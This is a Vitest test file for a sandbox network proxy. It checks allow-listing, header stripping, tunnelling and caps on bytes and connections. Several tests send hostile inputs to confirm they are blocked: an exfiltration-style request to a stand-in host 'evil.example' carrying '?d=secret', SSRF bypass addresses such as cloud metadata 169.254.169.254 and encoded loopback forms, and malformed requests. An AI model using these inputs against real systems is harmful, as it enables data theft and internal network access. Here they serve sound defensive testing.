import { createServer, type IncomingMessage, request as send } from "node:http";
import { type AddressInfo, connect, createServer as createListener, type Server, type Socket } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished } from "vitest";
import { createSandboxProxy, type SandboxProxyOptions } from "../../src/adapters/sandbox-proxy.js";
import { gateFor, publicNames } from "../helpers/network-gate.js";

let seen: { url: string; method: string; headers: IncomingMessage["headers"]; body: string }[];
const target = createServer((request, response) => {
	let body = "";
	request.on("data", (chunk) => {
		body += chunk;
	});
	request.on("end", () => {
		seen.push({ url: request.url ?? "", method: request.method ?? "", headers: request.headers, body });
		if (request.url === "/endless") {
			const more = () => {
				while (response.writable && response.write("x".repeat(65_536)));
			};
			response.on("drain", more);
			return more();
		}
		if (request.url === "/breaks") return request.socket.destroy();
		response.writeHead(201, { "x-mine": "1", "set-cookie": ["a=1", "b=2"], "proxy-authenticate": "Basic" });
		response.end(`answer to ${request.url}`);
	});
});
const portOf = (server: { address(): unknown }) => (server.address() as AddressInfo).port;
const listen = (server: Server) => new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));

beforeAll(() => listen(target));
beforeEach(() => {
	seen = [];
});
afterAll(() => {
	target.closeAllConnections();
	target.close();
});

async function open(
	hosts: readonly string[],
	addresses: Readonly<Record<string, readonly string[]>> = {},
	more: Partial<SandboxProxyOptions> = {},
) {
	const names = publicNames(portOf(target), addresses);
	const gate = gateFor(hosts);
	const proxy = await createSandboxProxy({ gate, ...names.options, ...more });
	const listener = createListener();
	await listen(listener);
	proxy.serve(listener);
	onTestFinished(() => proxy.close());
	return { proxy, gate, names, port: portOf(listener) };
}

/** What a raw client gets until the other end closes, or until `until` is in it. */
const raw = (port: number, text: string, until?: string): Promise<string> =>
	new Promise((resolve, reject) => {
		let got = "";
		const socket: Socket = connect(port, "127.0.0.1", () => socket.write(text));
		socket.on("data", (chunk) => {
			got += chunk.toString("latin1");
			if (until !== undefined && got.includes(until)) socket.destroy();
		});
		socket.on("close", () => resolve(got));
		socket.on("error", reject);
	});

/** One request with an absolute address, as programs send it to a proxy. */
const ask = (
	port: number,
	url: string,
	options: { method?: string; headers?: Record<string, string>; body?: string } = {},
) =>
	new Promise<{ status: number; headers: IncomingMessage["headers"]; body: string }>((resolve, reject) => {
		const { method = "GET", headers = {}, body } = options;
		const request = send({ host: "127.0.0.1", port, path: url, method, headers, agent: false }, (response) => {
			let text = "";
			response.on("data", (chunk) => {
				text += chunk;
			});
			response.on("end", () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text }));
			response.on("error", reject);
		});
		request.on("error", reject);
		request.end(body);
	});

const connectTo = (authority: string, rest = "") =>
	`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\nProxy-Authorization: Basic eA==\r\n\r\n${rest}`;
const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n`;

describe("R21 what is allowed", () => {
	it("a plain request goes on with its own headers and the host that was judged", async () => {
		const { port, names, proxy } = await open(["allowed.example"]);
		const answer = await ask(port, "http://allowed.example/a?b=c", {
			method: "POST",
			body: "data",
			headers: {
				host: "evil.example",
				accept: "text/html",
				authorization: "Bearer own",
				"proxy-authorization": "Basic secret",
				connection: "x-hop",
				"x-hop": "1",
			},
		});
		expect(answer).toMatchObject({ status: 201, body: "answer to /a?b=c", headers: { "x-mine": "1" } });
		expect(answer.headers["set-cookie"]).toEqual(["a=1", "b=2"]);
		expect(answer.headers).not.toHaveProperty("proxy-authenticate");
		expect(seen[0]).toMatchObject({
			...{ method: "POST", url: "/a?b=c", body: "data" },
			headers: { host: "allowed.example", accept: "text/html", authorization: "Bearer own", connection: "close" },
		});
		for (const name of ["proxy-authorization", "x-hop"]) expect(seen[0]?.headers).not.toHaveProperty(name);
		expect(names.dialled).toEqual(["93.184.215.14:80"]);
		expect(proxy.notes()).toBe("");
	});

	it("a tunnel is bytes both ways, those that came with the request too", async () => {
		const { port, names } = await open(["allowed.example"]);
		const got = await raw(port, connectTo("allowed.example:443", get("/in-tunnel")));
		expect(got).toMatch(/^HTTP\/1\.1 200 Connection established\r\n\r\nHTTP\/1\.1 201/);
		expect(got).toContain("answer to /in-tunnel");
		expect(names.dialled).toEqual(["93.184.215.14:443"]);
	});

	it("each connection is asked about: one that was opened is none for another host", async () => {
		const { port, gate } = await open(["allowed.example"]);
		await ask(port, "http://allowed.example/");
		const agentless = await ask(port, "http://other.example/");
		expect(agentless.status).toBe(403);
		expect(gate.asked).toEqual(["allowed.example", "other.example"]);
	});
});

describe("D21 R21 what is not", () => {
	it.each([
		["CONNECT", (port: number) => raw(port, connectTo("evil.example:443"))],
		["GET", async (port: number) => (await ask(port, "http://evil.example/?d=secret")).body],
	])("%s to a host that is not allowed: its name is not even resolved", async (_method, attempt) => {
		const { port, names, proxy } = await open(["allowed.example"]);
		const got = await attempt(port);
		expect(got).toContain("evil.example is not allowed here");
		await attempt(port);
		expect([names.resolved, names.dialled]).toEqual([[], []]);
		expect(proxy.notes()).toBe("nexus: evil.example is not allowed here\n");
		expect(proxy.notes()).toBe("");
		expect(seen).toEqual([]);
	});

	const private_ = [
		"127.0.0.1",
		"::1",
		"10.1.2.3",
		"172.16.0.1",
		"192.168.1.1",
		"169.254.169.254",
		"fe80::1",
		"0.0.0.0",
	];
	it.each([...private_, "fd00::1", "100.64.0.1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "224.0.0.1"])(
		"an allowed name that is %s",
		async (address) => {
			const { port, names, proxy } = await open(["allowed.example"], { "allowed.example": ["93.184.215.14", address] });
			expect(await raw(port, connectTo("allowed.example:443"))).toMatch(/^HTTP\/1\.1 403 /);
			expect((await ask(port, "http://allowed.example/")).status).toBe(403);
			expect(names.dialled).toEqual([]);
			expect(proxy.notes()).toContain(`allowed.example is not reached from the sandbox: allowed.example is ${address}`);
		},
	);

	it.each([
		["127.0.0.1:80", "127.0.0.1"],
		["localhost:443", "localhost"],
		["2130706433:80", "127.0.0.1"],
		["[::1]:443", "[::1]"],
		["[::ffff:7f00:1]:443", "[::ffff:7f00:1]"],
		["169.254.169.254:80", "169.254.169.254"],
	])("%s, whatever is allowed", async (authority, host) => {
		const { port, names } = await open([host], { localhost: ["127.0.0.1"] });
		expect(await raw(port, connectTo(authority))).toMatch(/^HTTP\/1\.1 403 /);
		expect(names.dialled).toEqual([]);
	});

	it.each([
		["a path alone", "GET /x HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n"],
		["https in the clear", "GET https://allowed.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"],
		["another scheme", "GET ftp://allowed.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"],
		["a password", "GET http://u:p@allowed.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"],
		["no port", connectTo("allowed.example")],
		["a user", connectTo("u@allowed.example:443")],
		["no host", connectTo(":443")],
		["port 0", connectTo("allowed.example:0")],
	])("%s is refused", async (_name, text) => {
		const { port, names } = await open(["allowed.example"]);
		expect(await raw(port, text)).toMatch(/^HTTP\/1\.1 400 /);
		expect(names.resolved).toEqual([]);
	});

	it.each(["\x16\x03\x01garbage", "SSH-2.0-x\r\n", `GET http://a/ HTTP/1.1\r\nx: ${"y".repeat(100_000)}\r\n\r\n`])(
		"what is no request of HTTP ends the connection (%#)",
		async (text) => {
			const { port, names } = await open(["allowed.example"]);
			await raw(port, text).catch(() => "");
			expect(names.resolved).toEqual([]);
		},
	);
});

describe("R22 caps and failures", () => {
	it("bytes: what is over is cut off, said, and nothing more is let through", async () => {
		const { port, proxy, names } = await open(["allowed.example"], {}, { maxBytes: 200_000 });
		const got = await raw(port, connectTo("allowed.example:443", get("/endless"))).catch(() => "");
		expect(got.length).toBeLessThan(2_000_000);
		expect(proxy.notes()).toMatch(/more than 2\d\d ?\w+ went over the network|more than .* went over the network/);
		expect((await ask(port, "http://allowed.example/")).status).toBe(503);
		expect(names.dialled).toHaveLength(1);
	});

	it("connections at once", async () => {
		const { port, proxy } = await open(["allowed.example"], {}, { maxConnections: 2 });
		const held = [1, 2].map(() => connect(port, "127.0.0.1"));
		for (const socket of held) await new Promise((resolve) => socket.once("connect", resolve));
		await raw(port, get("/")).catch(() => "");
		expect(proxy.notes()).toContain("more than 2 connections at once");
		for (const socket of held) socket.destroy();
	});

	it("connections to hosts, which one connection may ask for by the dozen", async () => {
		let dials = 0;
		const neverConnects = (): Promise<Socket> => {
			dials++;
			return new Promise(() => {});
		};
		const { port, proxy } = await open(["allowed.example"], {}, { maxConnections: 3, connect: neverConnects });
		const requests = "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n".repeat(50);
		const socket = connect(port, "127.0.0.1", () => socket.write(requests));
		await expect.poll(() => proxy.notes()).toContain("more than 3 connections at once");
		expect(dials).toBe(3);
		socket.destroy();
	});

	it("a host that does not answer, and one that breaks off", async () => {
		const refuses = { connect: () => Promise.reject(Object.assign(new Error("no"), { code: "ECONNREFUSED" })) };
		const { port } = await open(["allowed.example"], {}, refuses);
		expect(await raw(port, connectTo("allowed.example:443"))).toContain("could not be reached (ECONNREFUSED)");
		const other = await open(["allowed.example"]);
		expect((await ask(other.port, "http://allowed.example/breaks")).status).toBe(502);
	});

	it("an end takes every connection along, and lets none in later", async () => {
		const { port, proxy } = await open(["allowed.example"]);
		const got = raw(port, connectTo("allowed.example:443"));
		await expect.poll(() => proxy.notes()).toBe("");
		proxy.close();
		await got.catch(() => "");
		await expect(raw(port, get("/"))).rejects.toMatchObject({ code: "ECONNREFUSED" });
	});
});
